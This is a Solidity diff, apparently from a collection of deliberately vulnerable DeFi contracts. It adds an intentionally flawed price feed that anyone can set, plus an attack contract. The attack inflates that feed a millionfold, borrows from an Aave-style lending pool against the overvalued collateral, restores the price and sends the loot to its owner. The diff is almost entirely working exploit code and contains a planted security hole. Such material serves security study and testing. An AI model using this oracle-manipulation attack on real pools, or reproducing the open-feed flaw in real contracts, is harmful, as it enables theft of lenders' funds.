@@ -27,6 +27,12 @@ interface IComptroller {
     function enterMarkets(address[] calldata) external returns (uint256[] memory);
 }
 
+/// @dev Of Aave v2 and v3, which still knows `deposit`.
+interface ILendingPool {
+    function deposit(address, uint256, address, uint16) external;
+    function borrow(address, uint256, uint256, uint16, address) external;
+}
+
 interface IStablePool {
     function exchange(int128, int128, uint256, uint256) external;
 }
@@ -62,6 +68,43 @@ contract WildPriceLoan {
         comptroller.enterMarkets(markets);
         require(wanted.borrow(amount) == 0, "not lent");
         prices.setPrice(address(collateral), fair);
+        loan.transfer(owner, loan.balanceOf(address(this)));
+    }
+}
+
+/// @notice FLAW: anybody may set the price. Stands in the place of a price feed that an oracle asks.
+contract WildOpenFeed {
+    int256 public latestAnswer;
+
+    constructor(int256 price) {
+        latestAnswer = price;
+    }
+
+    function set(int256 price) external {
+        latestAnswer = price;
+    }
+}
+
+/// @notice Sets a feed a million times too high, deposits a little of its asset in a pool, borrows another on it, sets it back.
+contract WildFeedLoan {
+    address private immutable owner = msg.sender;
+    WildOpenFeed private immutable feed;
+    ILendingPool private immutable pool;
+    IToken private immutable collateral;
+    IToken private immutable loan;
+
+    constructor(WildOpenFeed feed_, ILendingPool pool_, IToken collateral_, IToken loan_) {
+        (feed, pool, collateral, loan) = (feed_, pool_, collateral_, loan_);
+    }
+
+    function attack(uint256 amount) external payable {
+        int256 fair = feed.latestAnswer();
+        feed.set(fair * 1_000_000);
+        uint256 deposit = collateral.balanceOf(address(this)) / 2;
+        collateral.approve(address(pool), deposit);
+        pool.deposit(address(collateral), deposit, address(this), 0);
+        pool.borrow(address(loan), amount, 2, 0, address(this));
+        feed.set(fair);
         loan.transfer(owner, loan.balanceOf(address(this)));
     }
 }
